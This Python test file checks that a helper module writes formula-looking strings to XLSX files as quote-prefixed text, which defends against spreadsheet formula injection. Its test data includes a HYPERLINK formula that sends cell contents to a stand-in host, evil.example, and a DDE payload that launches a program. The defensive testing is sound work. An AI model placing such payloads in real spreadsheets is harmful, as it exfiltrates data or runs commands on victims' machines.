"""core.xlsx_safe: strings written to XLSX are text, and formula-looking ones carry the quote prefix.

Read back with openpyxl and, to be sure no reader could evaluate anything, from the sheet XML
itself: a formula would be an ``<f>`` element."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx_safe import RISKY_STARTS, is_risky, safe_row, workbook_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm để xem")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def formulas_in(data: bytes) -> list[str]:
    """The ``<f>`` elements of every sheet of an XLSX file (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>", z.read(n).decode())]


def quote_prefixed_styles(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/styles.xml").decode().count('quotePrefix="1"')


def assert_all_text(data: bytes, texts: list[str]) -> None:
    """Every string in ``texts`` is in the workbook as a text cell with its value unchanged."""
    assert formulas_in(data) == []
    wb = load_workbook(io.BytesIO(data))
    found = {
        c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }
    for text in texts:
        cell = next((c for v, c in found.items() if text in v), None)
        assert cell is not None, text
        assert cell.data_type == "s", text
        if is_risky(cell.value):
            assert cell.quotePrefix, text


def test_the_risky_starts_are_the_six_of_the_owasp_rule():
    assert set(RISKY_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert not is_risky("Báo cáo quý I") and not is_risky(12) and not is_risky(None)


@pytest.mark.parametrize("write_only", [False, True])
def test_strings_never_become_formulas(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("Trang 1") if write_only else wb.active
    for text in ATTACKS:
        if write_only:
            ws.append(safe_row(ws, [text, 5]))
        else:
            ws.append([text, 5])
    data = workbook_bytes(wb)
    assert_all_text(data, ATTACKS)
    assert quote_prefixed_styles(data) >= 1
    values = [row[0] for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)]
    assert values == ATTACKS  # shown as typed: no apostrophe or space added to the text


def test_ordinary_text_and_numbers_are_left_alone():
    wb = Workbook()
    wb.active.append(["Phòng Kinh tế", 97.5, "- Báo cáo quý I"])
    cells = list(load_workbook(io.BytesIO(workbook_bytes(wb))).active.iter_rows())[0]
    assert [c.value for c in cells] == ["Phòng Kinh tế", 97.5, "- Báo cáo quý I"]
    assert cells[1].data_type == "n" and not cells[0].quotePrefix and cells[2].quotePrefix


def test_without_the_helper_openpyxl_writes_a_live_formula():
    """The reason for the module: the test above would fail with a plain ``wb.save``."""
    wb = Workbook()
    wb.active.append(["=1+2"])
    out = io.BytesIO()
    wb.save(out)
    assert formulas_in(out.getvalue()) != []
